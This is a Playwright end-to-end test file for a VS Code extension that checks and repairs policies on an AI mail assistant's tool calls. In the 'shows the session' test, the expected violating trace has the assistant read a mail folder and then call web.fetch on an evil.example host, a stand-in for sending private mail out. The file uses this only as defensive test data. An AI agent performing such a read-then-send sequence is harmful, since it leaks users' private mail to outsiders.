/**
 * Tests an author's work in VS Code for the Web, on a virtual workspace: everything goes through the page, as there is
 * no other access.
 */
import assert from 'node:assert/strict';
import { join } from 'node:path';
import type { FrameLocator, Locator, Page } from 'playwright-core';
import { traceView } from '../suite/page.js';

const CLAIM = 'mail leaves only through a person';

/**
 * Takes a picture in which nothing is hidden: Playwright would add styles to all frames, and the policy of the views, which
 * this run checks, forbids them.
 */
async function picture(page: Page, name: string): Promise<void> {
    const path = join(process.env.GUARDRAIL_E2E_OUT ?? '.', `${name}.png`);
    await page.screenshot({ path, animations: 'disabled', caret: 'initial' });
}

/**
 * The tests, each of which starts where the previous one ended.
 * @param page shows mail-assistant/first-try.guardrail
 */
export function tests(page: Page): void {
    const view: FrameLocator = traceView(page);
    const lens = (text: string | RegExp): Locator => page.locator('.codelens-decoration a', { hasText: text });
    const line = (text: string): Locator => page.locator('.monaco-editor .view-line', { hasText: text }).first();

    describe('VS Code for the Web', () => {
        afterEach(async function () {
            if (this.currentTest?.state === 'failed') {
                await picture(page, 'web-failure');
            }
        });

        it('checks the policy that is open', async () => {
            await lens('violated · show session').waitFor();
            await lens('possible · show session').waitFor();
            await page.locator('.statusbar-item', { hasText: 'Guardrail: 1 of 2 claims violated' }).waitFor();
            await page.locator('.monaco-editor .squiggly-error').first().waitFor();
        });

        it('shows the session', async () => {
            await lens('violated · show session').click();
            await view.locator('.step.judged').waitFor();
            assert.equal(await view.locator('.verdict').textContent(), 'violated');
            assert.equal(await view.locator('h1').textContent(), CLAIM);
            assert.deepEqual(await view.locator('.step .call').allTextContents(), [
                'mail.read(folder: "x")',
                'web.fetch(url: "https://evil.example/")'
            ]);
            await picture(page, 'web-session');
        });

        it('leads from a step to the rule in the editor', async () => {
            await view.locator('.step .rule-link').first().click();
            // The focus may return to the view, and then the status bar shows nothing about the editor.
            await page.locator('.line-numbers.active-line-number', { hasText: /^18$/ }).waitFor();
        });

        it('draws the session, and the policy', async () => {
            await view.getByRole('tab', { name: 'Sequence' }).click();
            await view.locator('.sequence .row').first().waitFor();
            assert.deepEqual(await view.locator('.head text').allTextContents(), ['assistant', 'mail', 'web']);
            await picture(page, 'web-sequence');
            // A script that is loaded for this purpose draws the pane.
            await view.getByRole('tab', { name: 'Policy' }).click();
            await view.locator('svg.graph').first().waitFor();
            assert.match(
                (await view.locator('.flow').allTextContents()).join('\n'),
                /unguarded\s*private to web\.fetch/
            );
            await picture(page, 'web-policy');
            await view.getByRole('tab', { name: 'Steps' }).click();
        });

        it('shows hovers for names, and completes them', async () => {
            await line('never external').getByText('external', { exact: true }).hover();
            await page.locator('.monaco-hover', { hasText: /trait external.*web\.fetch, web\.post/ }).waitFor();
            await line('possible mail.read').click();
            await page.keyboard.press('ControlOrMeta+End');
            await page.keyboard.type('deny mail.');
            await page.keyboard.press('Control+Space');
            await page.locator('.suggest-widget .monaco-list-row', { hasText: 'mail.draft' }).first().waitFor();
            await page.keyboard.press('Escape');
        });

        it('fixes a misspelt name', async () => {
            await page.keyboard.type('raed');
            await quickFix('Change to `mail.read`');
            await line('deny mail.read').waitFor();
            await revert();
        });

        it('explains a message on the page of its code', async () => {
            await line('claim "mail leaves').click();
            await quickFix(/^Explain GR\d{3}/);
            const preview = page.locator('.tab', { hasText: /Preview GR\d{3}/ });
            await preview.waitFor();
            await view.locator('h1', { hasText: /^GR\d{3}/ }).waitFor();
            await close(preview);
        });

        it('finds a repair, and the claim holds after it', async () => {
            await line('claim "mail leaves').click();
            // The repairs have already been found, or are searched for now.
            await quickFix(/: allowed -> (held|denied)|^Find a rule change/);
            // A repair is previewed before it is applied.
            const apply = page.getByRole('button', { name: 'Apply', exact: true });
            await apply.waitFor();
            await page.locator('.bulk-edit-panel input[type=checkbox]').first().click();
            await apply.click();
            // The preview has scrolled the editor to the end of the change.
            await command('View: Focus Active Editor Group');
            await page.keyboard.press('Home');
            await lens(/holds/).waitFor();
            await view.locator('.verdict', { hasText: 'holds' }).waitFor();
            await picture(page, 'web-repaired');
            await revert();
            await lens('violated · show session').waitFor();
            await close(page.locator('.tab', { hasText: 'Session:' }));
        });

        it('plays an agent by hand', async () => {
            await lens('Simulate').click();
            await view
                .getByRole('button', { name: /^Play assistant calls mail\.read/ })
                .first()
                .click();
            await view.locator('.step .call').first().waitFor();
            await picture(page, 'web-simulator');
            await close(page.locator('.tab', { hasText: 'Simulator' }));
        });

        it('steps through the session in the debugger', async () => {
            await lens('Debug').first().click();
            const stack = page.locator('.debug-call-stack .monaco-list-row');
            await stack.filter({ hasText: 'The session starts' }).waitFor();
            await page.keyboard.press('F10');
            await stack.filter({ hasText: 'assistant calls mail.read' }).waitFor();
            await page.locator('.debug-variables').getByText('Labels').first().waitFor();
            await picture(page, 'web-debugger');
            await page.keyboard.press('Shift+F5');
            await page.locator('.debug-toolbar').waitFor({ state: 'hidden' });
        });

        it('runs claims in the Test Explorer', async () => {
            await line('claim "mail leaves').click();
            await command('Test: Run Tests in Current File');
            await command('Testing: Focus on Test Explorer View');
            const test = (name: string, result: string): Locator =>
                page.locator(`.test-explorer [role=treeitem][aria-label^="${name}"][aria-label*="${result}"]`);
            await test(CLAIM, '(Failed)').waitFor();
            await test('it can still answer mail', '(Passed)').waitFor();
            await picture(page, 'web-tests');
        });

        it('offers nothing that a browser cannot do', async () => {
            await command('Welcome: Open Walkthrough');
            await page.locator('.quick-input-list .monaco-list-row', { hasText: 'Your first policy' }).click();
            const steps = page.locator('.getting-started-step .step-title');
            await steps.first().waitFor();
            assert.deepEqual(await steps.allTextContents(), [
                'Open a policy',
                'See what breaks it',
                'Keep it as a test',
                'Repair the rule'
            ]);
        });
    });

    async function command(title: string): Promise<void> {
        await page.keyboard.press('F1');
        await page.locator('.quick-input-box input').fill(`>${title}`);
        await page.locator('.quick-input-list .monaco-list-row', { hasText: title }).first().click();
    }

    /** Applies the first quick fix with that name at the cursor, once it is offered. */
    async function quickFix(name: string | RegExp): Promise<void> {
        const menu = page.locator('.action-widget');
        const none = page.locator('.monaco-editor-overlaymessage');
        const fix = menu.locator('.monaco-list-row', { hasText: name }).first();
        for (let tries = 0; tries < 10; tries++) {
            await page.keyboard.press('ControlOrMeta+.');
            await menu.or(none).first().waitFor();
            if (await fix.isVisible()) {
                // The menu is used by keyboard: until the mouse has moved, the click that opened it cannot choose from
                // it.
                while (!(await menu.locator('.monaco-list-row.focused', { hasText: name }).isVisible())) {
                    await page.keyboard.press('ArrowDown');
                }
                await page.keyboard.press('Enter');
                return;
            }
            await page.keyboard.press('Escape');
            await menu.or(none).first().waitFor({ state: 'hidden' });
            await page.waitForTimeout(500);
        }
        assert.fail(`${name} is not offered`);
    }

    async function revert(): Promise<void> {
        await command('File: Revert File');
        await page.locator('.tab.dirty').waitFor({ state: 'detached' });
    }

    async function close(tab: Locator): Promise<void> {
        await tab.hover();
        await tab.locator('.codicon-close').click();
        await tab.waitFor({ state: 'detached' });
    }
}
